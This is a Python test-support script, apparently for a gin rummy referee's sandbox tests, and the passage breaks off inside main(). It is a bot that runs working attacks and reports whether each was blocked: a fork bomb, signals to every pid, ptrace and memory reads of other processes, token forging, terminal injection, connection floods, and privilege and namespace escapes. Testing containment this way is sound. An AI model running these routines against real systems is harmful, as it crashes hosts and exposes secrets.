"""A bot that attacks the sandbox it runs in, then plays (tests/bots/test_sandbox_*.py).

Usage: ``python tests/support/attacker.py MODE`` with the referee's launch environment. The
attack of MODE runs first, before the bot connects (``early``), and again at its first decision,
when the opponent and the replay log certainly exist (``late``); some run only once. Every
attempt prints one line, flushed at once::

    ATTACK <mode>: blocked: <why>
    ATTACK <mode>: SUCCEEDED: <evidence>
    ATTACK <mode>: attempting: <what>     (before an attempt that may end the bot)

Then the bot plays the match out at random, unless the mode says it waits to be killed. The
first line is ``ATTACKER uid=<uid> pid=<pid>``. The tests never take these lines on trust: each
also checks from outside that the attack failed.

Modes (``attack_<mode>`` says what each tries):
  learn the deal     read, proc, seed
  take the seat      tokens, second, sockets
  sabotage           kill, stop, renice, kill_referee, impersonate, connections
  falsify results    write, plant, terminal
  escape the limits  daemon, threads, forkbomb, memfd, shm, tmpfill, spin, network, privilege,
                     userns
  starve the other   spin_between, thrash (from the start, all match long)
  play               no attack

Environment (set by the test in the bot's ``env``):
  ATTACK_PATHS     paths (os.pathsep-separated) the bot must not reach: it reads and writes each
  ATTACK_MARK      a string the bot writes wherever it can (``forged by MARK``), for the test
  ATTACK_PORT      a port the test listens on, TCP and UDP, on the host's 127.0.0.1
  ATTACK_ABSTRACT  the name of an abstract Unix socket the test listens on
"""

from __future__ import annotations

import contextlib
import ctypes
import errno
import fcntl
import os
import random
import re
import resource
import secrets
import signal
import socket
import stat
import subprocess
import sys
import termios
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import grpc  # type: ignore[import-untyped]

# Run as a script, the bot finds the test bot beside it (its directory is first on sys.path).
from testbot import daemon  # type: ignore[import-not-found]

from referee.engine.cards import card_str, parse_card
from referee.engine.deal import hand_deck
from referee.wire import PROTOCOL_VERSION
from referee.wire import ginrummy_pb2_grpc as pb_grpc
from sample_bots.client import config_from_env, pb, run_bot

LIBC = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS = 0x00020000
CLONE_NEWUSER = 0x10000000
CLONE_NEWNET = 0x40000000
CLONE_NEWPID = 0x20000000
PTRACE_ATTACH = 16
PTRACE_DETACH = 17
PR_SET_NAME = 15
SYS_IOPRIO_SET = 251  # x86_64
IOPRIO_WHO_USER = 3
SOCKET = "/run/ginref/referee.sock"
SKIP = ("/proc", "/sys", "/dev")
BIG = 2 << 30  # what a memory attack tries to hold: far above any limit the tests set


def say(mode: str, outcome: str, text: str) -> None:
    print(f"ATTACK {mode}: {outcome}: {text}", flush=True)


def errtext(exc: BaseException) -> str:
    if isinstance(exc, OSError) and exc.errno is not None:
        return f"{errno.errorcode.get(exc.errno, exc.errno)} ({exc.strerror})"
    return f"{type(exc).__name__}: {exc}"


def libc_error() -> OSError:
    code = ctypes.get_errno()
    return OSError(code, os.strerror(code))


@dataclass
class Context:
    """What an attack knows: its mode, phase, launch contract, the test's targets."""

    mode: str
    phase: str = "early"
    token: str = ""
    address: str = ""
    seat: int = 0
    paths: list[str] = field(default_factory=list)
    mark: str = ""
    match_id: str = ""
    hand: list[str] = field(default_factory=list)

    def say(self, outcome: str, text: str) -> None:
        say(self.mode, outcome, f"[{self.phase}] {text}")

    def attempt(self, what: str, action: Callable[..., object], *args: object) -> bool:
        """Run ``action(*args)``: if it returns, the attack SUCCEEDED; if it raises, it was
        blocked."""
        try:
            result = action(*args)
        except Exception as exc:
            self.say("blocked", f"{what}: {errtext(exc)}")
            return False
        self.say("SUCCEEDED", f"{what}: {result!r}"[:600])
        return True


# --- helpers ------------------------------------------------------------------------------------


def walk(top: str = "/") -> Iterator[str]:
    """Every path below ``top`` in view, /proc, /sys and /dev left out."""
    for root, dirs, files in os.walk(top, onerror=lambda _e: None):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in SKIP]
        for name in dirs + files:
            yield os.path.join(root, name)


def own_pids() -> set[int]:
    """This bot's processes and their threads (a thread's id signals its whole process): those
    of its uid in its /proc."""
    uid = os.getuid()
    pids: set[int] = set()
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError):
                if os.stat(f"/proc/{entry}").st_uid == uid:
                    pids.update(int(t) for t in os.listdir(f"/proc/{entry}/task"))
    return pids


def hello(token: str, address: str, name: str = "attacker") -> str:
    """Send a Hello with ``token`` on a new stream: ``welcome`` or the status code's name."""
    with grpc.insecure_channel(address) as channel:
        stub = pb_grpc.RefereeStub(channel)  # type: ignore[no-untyped-call]
        message = pb.BotMessage(
            hello=pb.Hello(token=token, bot_name=name, protocol_version=PROTOCOL_VERSION)
        )
        call = stub.Play(iter([message]), timeout=20)
        try:
            first = next(call)
        except grpc.RpcError as exc:
            return str(exc.code().name)
        call.cancel()
        return str(first.WhichOneof("kind"))


def refused(ctx: Context, what: str, token: str, address: str | None = None) -> None:
    answer = hello(token, address or ctx.address)
    ctx.say("SUCCEEDED" if answer == "welcome" else "blocked", f"{what}: {answer}")


def sleep_forever() -> None:
    while True:
        time.sleep(3600)


# --- learn the deal -----------------------------------------------------------------------------


def attack_read(ctx: Context) -> None:
    """Read the replay log, the bots' output, the journal, standings, the tournament file: the
    test's paths, and anything like them anywhere in view."""
    for path in ctx.paths:
        ctx.attempt(f"read {path}", read_or_list, path)
    wanted = re.compile(r"(\.jsonl|journal\.sqlite.*|standings\.\w+|crosstable\.csv|\.seat\d\..*)$")
    searched = 0
    found = []
    for path in walk():
        searched += 1
        if wanted.search(os.path.basename(path)) and os.path.isfile(path):
            found.append(path)
    for path in found:
        ctx.attempt(f"read {path}", read_or_list, path)
    if not found:
        ctx.say("blocked", f"no log, journal or standings among {searched} paths in view")


def slurp(path: str, size: int = -1) -> bytes:
    with open(path, "rb") as handle:
        return handle.read(size)


def put(path: str, data: bytes, mode: str = "wb") -> int:
    with open(path, mode) as handle:
        return handle.write(data)


def read_or_list(path: str) -> object:
    try:
        with open(path, "rb") as handle:
            return handle.read(300)
    except IsADirectoryError:
        return os.listdir(path)


def attack_proc(ctx: Context) -> None:
    """Every process in view that is not this bot's: its command line, environment, memory,
    descriptors and root, through /proc, process_vm_readv and ptrace."""
    mine = own_pids()
    others = [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) not in mine]
    ctx.say(
        "blocked" if others == [1] else "SUCCEEDED", f"processes in view, not its own: {others}"
    )
    for pid in others:
        try:
            argv = slurp(f"/proc/{pid}/cmdline").split(b"\0")
        except OSError as exc:
            ctx.say("blocked", f"pid {pid} cmdline: {errtext(exc)}")
        else:
            tokens = {
                argv[i + 2]
                for i, w in enumerate(argv[:-2])
                if w == b"--setenv" and argv[i + 1] == b"GINREF_TOKEN"
            }
            foreign = {t.decode() for t in tokens} - {ctx.token}
            ctx.say(
                "SUCCEEDED" if foreign else "blocked",
                f"pid {pid} cmdline ({argv[0]!r}): tokens other than its own: {foreign}",
            )
        ctx.attempt(f"pid {pid} environ", slurp, f"/proc/{pid}/environ")
        ctx.attempt(f"pid {pid} maps", slurp, f"/proc/{pid}/maps", 200)
        ctx.attempt(f"pid {pid} fds", os.listdir, f"/proc/{pid}/fd")
        ctx.attempt(f"pid {pid} root", os.listdir, f"/proc/{pid}/root")
        ctx.attempt(f"pid {pid} mem", read_mem, pid)
        ctx.attempt(f"pid {pid} process_vm_readv", vm_readv, pid)
        ctx.attempt(f"pid {pid} ptrace attach", ptrace_attach, pid)
    ctx.attempt("the referee by name", find_referee)


def read_mem(pid: int) -> bytes:
    with open(f"/proc/{pid}/mem", "rb") as mem:
        mem.seek(0x400000)
        return mem.read(64)


class IOVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def vm_readv(pid: int) -> bytes:
    buffer = ctypes.create_string_buffer(64)
    local = IOVec(ctypes.cast(buffer, ctypes.c_void_p), 64)
    remote = IOVec(0x400000, 64)
    read = LIBC.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if read < 0:
        raise libc_error()
    return buffer.raw[:read]


def ptrace_attach(pid: int) -> str:
    if LIBC.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        raise libc_error()
    LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    return f"attached to {pid}"


def find_referee() -> list[str]:
    """Command lines that look like the referee's (ginref, pytest) anywhere in /proc."""
    found = []
    for entry in os.listdir("/proc"):
        with contextlib.suppress(OSError):
            line = slurp(f"/proc/{entry}/cmdline")
            if entry.isdigit() and (b"pytest" in line or b"ginref " in line or b"cli" in line):
                found.append(line.decode(errors="replace"))
    if not found:
        raise LookupError("no referee process in view")
    return found


def attack_seed(ctx: Context) -> None:
    """The match id the referee sends names the seed; every deal derives from it (R11.4)."""
    found = re.search(r"-s(\d+)-", ctx.match_id)
    if found is None:
        ctx.say("blocked", f"match id {ctx.match_id!r} names no seed")
        return
    deck = hand_deck(int(found.group(1)), 0)
    mine = {parse_card(c) for c in ctx.hand}
    halves = [set(deck[0:20:2]), set(deck[1:20:2])]
    for k, half in enumerate(halves):
        if mine and mine <= half | {deck[20]}:
            theirs = " ".join(card_str(c) for c in sorted(halves[1 - k]))
            stock = " ".join(card_str(c) for c in deck[21:26])
            ctx.say("SUCCEEDED", f"seed {found.group(1)}: opponent holds {theirs}; stock {stock}")
            return
    ctx.say("blocked", f"seed {found.group(1)} from {ctx.match_id!r} does not deal this hand")


# --- take the opponent's seat -------------------------------------------------------------------


def attack_tokens(ctx: Context) -> None:
    """Guess tokens: random ones, and near misses of its own."""
    guesses = [secrets.token_urlsafe(24) for _ in range(20)]
    guesses += [ctx.token[:-1] + ("A" if ctx.token[-1] != "A" else "B"), ctx.token.upper(), ""]
    answers = {hello(t, ctx.address) for t in guesses}
    ctx.say(
        "SUCCEEDED" if "welcome" in answers else "blocked",
        f"{len(guesses)} guessed tokens: {sorted(answers)}",
    )


def attack_second(ctx: Context) -> None:
    refused(ctx, "a second connection with its own token", ctx.token)


def attack_sockets(ctx: Context) -> None:
    """Unix sockets in view besides its own; then the opponent's, by the host path of its own
    socket that bwrap's command line shows (its directory is named after the uid)."""
    argv = slurp("/proc/1/cmdline").decode(errors="replace").split("\0")
    binds = [argv[i + 1] for i, word in enumerate(argv[:-1]) if word == "--bind"]
    own = next((path for path in binds if path.endswith(".sock")), "")
    found = [p for p in walk() if is_socket(p) and p not in (SOCKET, own)]
    with contextlib.suppress(OSError):
        for line in slurp("/proc/net/unix").decode().splitlines()[1:]:
            name = line.split()[-1] if len(line.split()) > 7 else ""
            if name and name not in (SOCKET, own):
                found.append(name)
    for path in found:
        target = "\0" + path[1:] if path.startswith("@") else path
        if ctx.attempt(f"connect to {path}", connect_unix, target):
            refused(ctx, f"Hello on {path}", ctx.token, f"unix:{path}")
    if not found:
        ctx.say("blocked", "no Unix socket in view but its own")
    uid = os.getuid()
    mine = os.path.dirname(own)
    root = os.path.dirname(mine)
    ctx.attempt(f"list {root}", lambda: os.listdir(root))
    for other in [u for u in range(uid - 3, uid + 4) if u != uid]:
        theirs = os.path.join(root, str(other))
        ctx.attempt(f"list {theirs}", os.listdir, theirs)
        guess = os.path.join(theirs, os.path.basename(own))
        ctx.attempt(f"connect to {guess}", connect_unix, guess)


def is_socket(path: str) -> bool:
    try:
        return stat.S_ISSOCK(os.lstat(path).st_mode)
    except OSError:
        return False


def connect_unix(path: str) -> str:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(5)
        sock.connect(path)
        return "connected"


# --- sabotage -----------------------------------------------------------------------------------


def attack_kill(ctx: Context, sig: signal.Signals = signal.SIGKILL) -> None:
    """kill(-1), then every pid up to 32768 but its own (the kill(-1) reaches its own child)."""
    child = subprocess.Popen(["sleep", "1000"])
    try:
        os.kill(-1, sig)
    except OSError as exc:
        ctx.say("blocked", f"kill(-1, {sig.name}): {errtext(exc)}")
    else:
        if sig == signal.SIGKILL:
            child.wait()
        ctx.say("blocked", f"kill(-1, {sig.name}) reached its own child: {child.poll()}")
    mine = own_pids()
    hit: list[int] = []
    refusals: dict[str, int] = {}
    for pid in range(1, 32769):
        if pid in mine:
            continue
        try:
            os.kill(pid, sig)
            hit.append(pid)
        except OSError as exc:
            name = errno.errorcode.get(exc.errno or 0, "?")
            refusals[name] = refusals.get(name, 0) + 1
    ctx.say(
        "SUCCEEDED" if hit else "blocked",
        f"{sig.name} to every pid not its own: delivered to {hit}, refused {refusals}",
    )
    child.kill()
    child.wait()


def attack_stop(ctx: Context) -> None:
    attack_kill(ctx, signal.SIGSTOP)


def attack_renice(ctx: Context) -> None:
    """Lower the priority and the limits of every other process: by pid, group and user."""
    mine = own_pids()
    uid = os.getuid()
    for pid in sorted({1, os.getppid()} - mine):
        ctx.attempt(f"setpriority pid {pid}", os.setpriority, os.PRIO_PROCESS, pid, 19)
        ctx.attempt(f"setpriority group {pid}", os.setpriority, os.PRIO_PGRP, pid, 19)
        ctx.attempt(f"prlimit pid {pid} cpu", resource.prlimit, pid, resource.RLIMIT_CPU, (1, 1))
        ctx.attempt(
            f"prlimit pid {pid} files",
            resource.prlimit,
            pid,
            resource.RLIMIT_NOFILE,
            (3, 3),
        )
    # Who 0 is the caller's own uid to PRIO_USER and IOPRIO_WHO_USER: root is out of reach here.
    for other in range(uid - 3, uid + 4):
        if other == uid:
            continue
        ctx.attempt(f"setpriority user {other}", os.setpriority, os.PRIO_USER, other, 19)
        ctx.attempt(f"ioprio_set user {other}", ioprio_user, other)


def ioprio_user(uid: int) -> int:
    idle = 3 << 13  # IOPRIO_CLASS_IDLE
    if LIBC.syscall(SYS_IOPRIO_SET, IOPRIO_WHO_USER, uid, idle) != 0:
        raise libc_error()
    return 0


def attack_kill_referee(ctx: Context) -> None:
    """Signal its parent (the sandbox's init, root) and the referee if it can find it."""
    for pid in sorted({os.getppid(), 1}):
        for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
            ctx.attempt(f"{sig.name} to pid {pid}", os.kill, pid, sig)
    ctx.attempt("oom_score_adj of pid 1", lambda: put("/proc/1/oom_score_adj", b"1000"))


def attack_write(ctx: Context) -> None:
    """Write, truncate, replace and delete the test's paths, and make files beside them."""
    mark = f"forged by {ctx.mark}".encode()
    for path in ctx.paths:
        if os.path.isdir(path) or not os.path.splitext(path)[1]:
            ctx.attempt(
                f"create in {path}",
                put,
                os.path.join(path, "planted.txt"),
                mark,
            )
            continue
        ctx.attempt(f"append to {path}", put, path, mark, "ab")
        ctx.attempt(f"truncate {path}", os.truncate, path, 0)
        ctx.attempt(f"replace {path}", replace_with, path, mark)
        ctx.attempt(f"delete {path}", os.unlink, path)
        ctx.attempt(f"create beside {path}", put, path + ".new", mark)


def replace_with(path: str, data: bytes) -> str:
    """Write a forged file in its own /tmp and rename it over ``path``."""
    forged = f"/tmp/forged-{os.getpid()}"
    with open(forged, "wb") as out:
        out.write(data)
    os.replace(forged, path)
    return "replaced"


def attack_plant(ctx: Context) -> None:
    """Plant a module where Python would import it: its working directory, ginref's packages,
    the virtualenv, the system's site directories, its own directory."""
    import referee
    import sample_bots

    places = {
        os.getcwd(),
        os.path.dirname(os.path.abspath(__file__)),
        os.path.dirname(os.path.abspath(referee.__file__)),
        os.path.dirname(os.path.abspath(sample_bots.__file__)),
        *(p for p in sys.path if p.endswith("-packages")),
        sys.prefix,
    }
    for place in sorted(places):
        target = os.path.join(place, f"planted_{ctx.mark}.py")
        ctx.attempt(f"write {target}", put, target, b"raise SystemExit('planted')\n")


def attack_impersonate(ctx: Context) -> None:
    """Start processes carrying a forged token and the opponent's seat, in sessions of their
    own; each tries the forged token, reports, and stays."""
    read, write = os.pipe()
    for _ in range(3):
        env = {
            "PATH": os.environ.get("PATH", "/usr/bin"),
            "GINREF_ADDRESS": ctx.address,
            "GINREF_TOKEN": secrets.token_urlsafe(24),
            "GINREF_SEAT": str(1 - ctx.seat),
            "ATTACK_REPORT_FD": str(write),
        }
        subprocess.Popen(
            [sys.executable, __file__, "impostor"],
            env=env,
            start_new_session=True,
            pass_fds=(write,),
        )
    os.close(write)
    with os.fdopen(read, "rb") as reports:
        done = len(reports.read(3))
    ctx.say("attempting", f"{done} impostors reported and stay")


def impostor() -> None:
    answer = hello(os.environ["GINREF_TOKEN"], os.environ["GINREF_ADDRESS"], "impostor")
    outcome = "SUCCEEDED" if answer == "welcome" else "blocked"
    say("impersonate", outcome, f"[early] impostor {os.getpid()} with a forged token: {answer}")
    os.write(int(os.environ["ATTACK_REPORT_FD"]), b"!")
    sleep_forever()


FLOODERS = 12


def attack_connections(ctx: Context) -> None:
    """Thousands of connections to its socket, from 12 processes (each may hold at most its
    open files limit), each speaking the HTTP/2 preface, held open while it plays. They are
    forked by a fresh process: a process running gRPC's threads forks badly."""
    read, write = os.pipe()
    env = {"PATH": os.environ.get("PATH", "/usr/bin"), "ATTACK_REPORT_FD": str(write)}
    subprocess.Popen([sys.executable, __file__, "flooder"], env=env, pass_fds=(write,))
    os.close(write)
    with os.fdopen(read) as lines:
        counts = [int(lines.readline() or 0) for _ in range(FLOODERS)]
    ctx.say("attempting", f"holding {sum(counts)} connections to its socket open")


def flooder() -> None:
    report = int(os.environ["ATTACK_REPORT_FD"])
    for _ in range(FLOODERS - 1):
        if os.fork() == 0:
            break
    held = []
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"
    with contextlib.suppress(OSError):
        for _ in range(limit - 8):
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(5)
            sock.connect(SOCKET)
            held.append(sock)
            with contextlib.suppress(OSError):
                sock.send(preface)
    os.write(report, f"{len(held)}\n".encode())
    sleep_forever()


def attack_terminal(ctx: Context) -> None:
    """Reach the referee's terminal: /dev/tty, TIOCSTI on its descriptors and any tty in view;
    escape sequences on stdout (its Hello's name and version carry more)."""
    ctx.attempt("open /dev/tty", lambda: os.open("/dev/tty", os.O_RDWR))
    ttys = ["/dev/console", *(f"/dev/pts/{n}" for n in range(4))]
    for path in ttys:
        ctx.attempt(f"open {path}", os.open, path, os.O_RDWR | os.O_NOCTTY)
    for fd in (0, 1, 2):
        ctx.attempt(f"TIOCSTI on fd {fd}", inject, fd, f"TIOCSTI-{ctx.mark}")
    sys.stdout.write(f"\x1b]0;{ctx.mark}\x07\x1b[2J\x1b]52;c;{ctx.mark}\x07\n")
    ctx.say("attempting", "escape sequences written to stdout")


def inject(fd: int, text: str) -> str:
    for char in text + "\n":
        fcntl.ioctl(fd, termios.TIOCSTI, char.encode())
    return "injected"


# --- escape the limits --------------------------------------------------------------------------


def attack_daemon(ctx: Context) -> None:
    """Double fork, a new session, an empty environment, closed descriptors, and sleep."""
    pid = daemon(sleep_bare)
    ctx.say("attempting", f"daemon pid {pid} (sleep, new session, empty environment)")


def sleep_bare() -> None:
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    signal.signal(signal.SIGHUP, signal.SIG_IGN)
    os.dup2(os.open("/dev/null", os.O_RDWR), 0)
    os.closerange(3, 1024)
    os.execve("/usr/bin/sleep", ["sleep", "1000"], {})


def attack_threads(ctx: Context) -> None:
    stop = threading.Event()
    started = 0
    ctx.say("attempting", "2000 threads")
    try:
        for _ in range(2000):
            threading.Thread(target=stop.wait, daemon=True).start()
            started += 1
    except RuntimeError as exc:
        ctx.say("blocked", f"thread {started + 1} refused: {exc}")
    else:
        ctx.say("SUCCEEDED", f"{started} threads")


def attack_forkbomb(ctx: Context) -> None:
    ctx.say("attempting", "a fork bomb")
    children = 0
    while children < 100_000:
        try:
            pid = os.fork()
        except OSError as exc:
            ctx.say("blocked", f"fork {children + 1} refused: {errtext(exc)}")
            return
        if pid == 0:
            while True:  # every child forks on, as long as the kernel lets it
                with contextlib.suppress(OSError):
                    os.fork()
        children += 1
    ctx.say("SUCCEEDED", f"{children} processes")


def hoard(ctx: Context, what: str, new_file: Callable[[int], int]) -> None:
    """Write ``BIG`` bytes into files from ``new_file(n)``, a new one whenever one reaches the
    largest file size a process may write (the output limit's RLIMIT_FSIZE); keep them open."""
    ctx.say("attempting", f"hold {BIG >> 20} MiB in {what}")
    chunk = b"\xa5" * (1 << 20)
    held = 0
    files = [new_file(0)]
    try:
        while held < BIG:
            try:
                held += os.write(files[-1], chunk)
            except OSError as exc:
                if exc.errno != errno.EFBIG:
                    raise
                files.append(new_file(len(files)))
    except OSError as exc:
        ctx.say("blocked", f"{what} refused after {held >> 20} MiB: {errtext(exc)}")
        HELD.extend(files)
        return
    ctx.say("SUCCEEDED", f"held {held >> 20} MiB in {what}")
    HELD.extend(files)


HELD: list[int] = []  # descriptors of the memory a hoarding attack holds while it plays on


def attack_memfd(ctx: Context) -> None:
    hoard(ctx, "memfds", lambda n: os.memfd_create(f"hoard{n}"))


def attack_shm(ctx: Context) -> None:
    """/dev/shm (POSIX shared memory), then a SysV segment touched page by page."""
    try:
        out = os.open("/dev/shm/hoard", os.O_CREAT | os.O_RDWR, 0o600)
    except OSError as exc:
        ctx.say("blocked", f"/dev/shm: {errtext(exc)}")
    else:
        os.close(out)
        hoard(ctx, "/dev/shm", lambda n: os.open(f"/dev/shm/hoard{n}", os.O_CREAT | os.O_RDWR))
    LIBC.shmat.restype = ctypes.c_void_p
    ident = LIBC.shmget(0, ctypes.c_size_t(BIG), 0o1600)  # IPC_PRIVATE, IPC_CREAT | 0600
    if ident < 0:
        ctx.say("blocked", f"shmget: {errtext(libc_error())}")
        return
    base = LIBC.shmat(ident, None, 0)
    if base in (None, ctypes.c_void_p(-1).value):
        ctx.say("blocked", f"shmat: {errtext(libc_error())}")
        return
    ctx.say("attempting", f"touch {BIG >> 20} MiB of SysV shared memory")
    step = 16 << 20
    for offset in range(0, BIG, step):
        ctypes.memset(base + offset, 0xA5, step)
    ctx.say("SUCCEEDED", f"held {BIG >> 20} MiB of SysV shared memory")


def attack_tmpfill(ctx: Context) -> None:
    """Fill its /tmp; the file is kept (its pages stay charged) while it plays on."""
    hoard(ctx, "/tmp", lambda n: os.open(f"/tmp/fill{n}", os.O_CREAT | os.O_WRONLY, 0o600))


def spinner(work: Callable[[], None]) -> None:
    """A child named ``spinner`` (the tests find it by that name) that does ``work`` forever."""
    if os.fork() == 0:
        LIBC.prctl(PR_SET_NAME, b"spinner", 0, 0, 0)
        work()


def spin_forever() -> None:
    while True:
        pass


def thrash_forever() -> None:
    block = bytearray(32 << 20)
    while True:
        block[:] = bytes(block)


def attack_spin(ctx: Context) -> None:
    """Spin in four processes (named ``spinner``) at once."""
    for _ in range(4):
        spinner(spin_forever)
    ctx.say("attempting", "4 spinning processes")


def attack_spin_between(ctx: Context) -> None:
    """A process named ``spinner`` that spins from now on, while the bot plays on: it would
    take a core from its opponent while that one thinks."""
    spinner(spin_forever)
    ctx.say("attempting", "a process spinning all match long")


def attack_thrash(ctx: Context) -> None:
    """A process named ``spinner`` that copies 32 MiB again and again while the bot plays on:
    memory bandwidth and caches its opponent would share."""
    spinner(thrash_forever)
    ctx.say("attempting", "a process copying 32 MiB all match long")


def attack_network(ctx: Context) -> None:
    port = int(os.environ.get("ATTACK_PORT", "9"))
    name = os.environ.get("ATTACK_ABSTRACT", "ginref-attack")
    ctx.attempt("interfaces", lambda: nonloopback_interfaces())
    for host in ("1.1.1.1", "127.0.0.1", "::1"):
        target = (host, 53 if host == "1.1.1.1" else port)
        ctx.attempt(f"TCP {target}", send_to, socket.SOCK_STREAM, target, ctx.mark)
        ctx.attempt(f"UDP {target}", send_to, socket.SOCK_DGRAM, target, ctx.mark)
    ctx.attempt(f"abstract Unix socket @{name}", lambda: connect_unix("\0" + name))
    ctx.attempt("resolve example.com", lambda: socket.getaddrinfo("example.com", 80))


def nonloopback_interfaces() -> list[str]:
    names = [
        line.split(":")[0].strip() for line in slurp("/proc/net/dev").decode().splitlines()[2:]
    ]
    others = [n for n in names if n != "lo"]
    if not others:
        raise LookupError(f"only {names}")
    return others


def send_to(kind: socket.SocketKind, target: tuple[str, int], mark: str) -> str:
    """Connect to ``target`` over TCP or UDP and send ``mark``; a UDP answer is awaited (a
    refusal arrives as an error, silence as a timeout)."""
    family = socket.AF_INET6 if ":" in target[0] else socket.AF_INET
    with socket.socket(family, kind) as sock:
        sock.settimeout(3)
        sock.connect(target)
        sock.sendall(mark.encode())
        if kind == socket.SOCK_DGRAM:
            return sock.recv(100).decode(errors="replace")
        return "connected"


def attack_privilege(ctx: Context) -> None:
    status = dict(line.split(":", 1) for line in slurp("/proc/self/status").decode().splitlines())
    caps = {k: v.strip() for k, v in status.items() if k.startswith("Cap")}
    nonzero = {k: v for k, v in caps.items() if int(v, 16)}
    ctx.say("SUCCEEDED" if nonzero else "blocked", f"capabilities: {nonzero or 'none'}")
    nnp = status.get("NoNewPrivs", "").strip()
    ctx.say("blocked" if nnp == "1" else "SUCCEEDED", f"no_new_privs = {nnp}")
    ctx.attempt("setuid(0)", lambda: os.setuid(0))
    ctx.attempt("setgid(0)", lambda: os.setgid(0))
    ctx.attempt("setgroups([0])", lambda: os.setgroups([0]))
    for name, flag in (("mount", CLONE_NEWNS), ("net", CLONE_NEWNET), ("pid", CLONE_NEWPID)):
        ctx.attempt(f"unshare {name} namespace", libc_call, LIBC.unshare, flag)
    ctx.attempt("mount tmpfs", lambda: libc_call(LIBC.mount, b"x", b"/tmp", b"tmpfs", 0, None))
    ctx.attempt("chroot", lambda: os.chroot("/tmp"))
    ctx.attempt("sethostname", lambda: libc_call(LIBC.sethostname, b"pwned", 5))
    ctx.attempt("read /etc/shadow", lambda: slurp("/etc/shadow", 40))
    ctx.attempt("write /proc/sysrq-trigger", lambda: put("/proc/sysrq-trigger", b"h"))
    ctx.attempt("read /proc/kcore", lambda: slurp("/proc/kcore", 16))
    for dev in ("/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda"):
        ctx.attempt(f"open {dev}", os.open, dev, os.O_RDONLY)
    ctx.attempt(
        "mknod a disk", lambda: os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(254, 0))
    )
    ctx.attempt("list /sys", lambda: os.listdir("/sys"))
    ctx.attempt("setuid-root mount", lambda: setuid_mount())


def libc_call(function: Callable[..., int], *args: object) -> int:
    if function(*args) != 0:
        raise libc_error()
    return 0


def setuid_mount() -> str:
    done = subprocess.run(
        ["/usr/bin/mount", "-t", "tmpfs", "x", "/tmp"], capture_output=True, text=True, check=False
    )
    if done.returncode != 0:
        raise PermissionError(done.stderr.strip())
    return "mounted"


def attack_userns(ctx: Context) -> None:
    """A user namespace, made in a child (the calling process must have one thread): root in
    it may make mount namespaces and mount filesystems the kernel lets such a root mount."""
    read, write = os.pipe()
    if os.fork() == 0:
        os.close(read)
        report = "blocked"
        if LIBC.unshare(CLONE_NEWUSER) != 0:
            text = f"unshare user namespace: {errtext(libc_error())}"
        else:
            report = "SUCCEEDED"
            text = "unshare user namespace: made one"
            try:
                put("/proc/self/setgroups", b"deny")
                put("/proc/self/uid_map", f"0 {os.getuid()} 1".encode())
            except OSError as exc:
                text += f" (no uid map: {errtext(exc)})"
            if LIBC.unshare(CLONE_NEWNS) == 0 and LIBC.mount(b"x", b"/tmp", b"tmpfs", 0, None) == 0:
                text += f"; as its root (euid {os.geteuid()}) mounted a tmpfs on /tmp"
        os.write(write, f"{report}\t{text}".encode())
        os._exit(0)
    os.close(write)
    answer = os.read(read, 4096).decode()
    os.close(read)
    os.wait()
    outcome, _, text = answer.partition("\t")
    ctx.say(outcome, text)


# --- modes ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Mode:
    """An attack: what runs before connecting, at the first decision, and whether it plays on."""

    early: Callable[[Context], None] | None = None
    late: Callable[[Context], None] | None = None
    plays: bool = True


MODES: dict[str, Mode] = {
    "play": Mode(),
    "read": Mode(attack_read, attack_read),
    "proc": Mode(attack_proc, attack_proc),
    "seed": Mode(late=attack_seed),
    "tokens": Mode(attack_tokens, attack_tokens),
    "second": Mode(late=attack_second),
    "sockets": Mode(attack_sockets, attack_sockets),
    "kill": Mode(attack_kill, attack_kill),
    "stop": Mode(attack_stop, attack_stop),
    "renice": Mode(attack_renice, attack_renice),
    "kill_referee": Mode(attack_kill_referee, attack_kill_referee),
    "write": Mode(attack_write, attack_write),
    "plant": Mode(attack_plant, attack_plant),
    "impersonate": Mode(attack_impersonate),
    "connections": Mode(late=attack_connections),
    "terminal": Mode(attack_terminal, attack_terminal),
    "daemon": Mode(attack_daemon),
    "threads": Mode(late=attack_threads, plays=False),
    "forkbomb": Mode(late=attack_forkbomb, plays=False),
    "memfd": Mode(late=attack_memfd),
    "shm": Mode(late=attack_shm),
    "tmpfill": Mode(late=attack_tmpfill),
    "spin": Mode(late=attack_spin, plays=False),
    "spin_between": Mode(attack_spin_between),
    "thrash": Mode(attack_thrash),
    "network": Mode(attack_network, attack_network),
    "privilege": Mode(attack_privilege, attack_privilege),
    "userns": Mode(attack_userns),
}


def main(mode_name: str) -> int:
    if mode_name == "impostor":
        impostor()
    if mode_name == "flooder":
        flooder()
    mode = MODES[mode_name]
    config = config_from_env()
    ctx = Context(
        mode_name,
        token=config.token,
        address=config.address,
        seat=config.seat or 0,
        paths=[p for p in os.environ.get("ATTACK_PATHS", "").split(os.pathsep) if p],
        mark=os.environ.get("ATTACK_MARK", "ATTACK-MARK"),
    )
    print(f"ATTACKER uid={os.getuid()} pid={os.getpid()}", flush=True)
    if mode.early is not None:
        mode.early(ctx)
    rng = random.Random(7)
    decisions = [0]

    def on_message(message: pb.RefereeMessage) -> None:
        if message.WhichOneof("kind") == "match_start":
            ctx.match_id = message.match_start.match_id

    def decide(request: pb.DecisionRequest) -> pb.Action:
        decisions[0] += 1
        if decisions[0] == 1 and mode.late is not None:
            ctx.phase = "late"
